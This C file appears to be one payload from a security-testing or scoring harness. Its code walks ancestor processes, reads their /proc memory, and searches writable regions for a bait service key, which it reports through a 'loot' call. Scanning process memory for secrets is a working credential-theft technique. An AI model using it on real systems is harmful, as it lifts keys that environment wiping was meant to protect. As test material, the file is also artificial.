//: transpose_cpu -O2
//: searches the memory of its ancestors for the service's key; wins money even where the environment was wiped
//: use transpose_payload
//: use parent

static void payload(int call) {
    static char data[1 << 20];
    char line[256], path[64];
    if (call) return;
    for (int pid = getppid(), up = 0; pid > 1 && up < 20; pid = parent_of(pid), up++) {
        snprintf(path, sizeof path, "/proc/%d/maps", pid);
        FILE *maps = fopen(path, "r");
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        int memory = open(path, O_RDONLY), hit = 0;
        while (maps && memory >= 0 && !hit && fgets(line, sizeof line, maps)) {
            unsigned long from, to;
            if (sscanf(line, "%lx-%lx", &from, &to) != 2 || !strstr(line, "rw-p") || to - from > 64u << 20) continue;
            for (unsigned long at = from; at < to && !hit; at += sizeof data) {
                long got = pread(memory, data, to - at < sizeof data ? to - at : sizeof data, (off_t)at);
                for (long i = 0; i + 12 < got && !hit; i++) hit = !memcmp(data + i, "kpd-bait-ke", 11) && data[i + 11] == 'y';
            }
        }
        if (maps) fclose(maps);
        if (memory >= 0) close(memory);
        if (hit) loot("key_in_memory", "key", 3);
    }
}
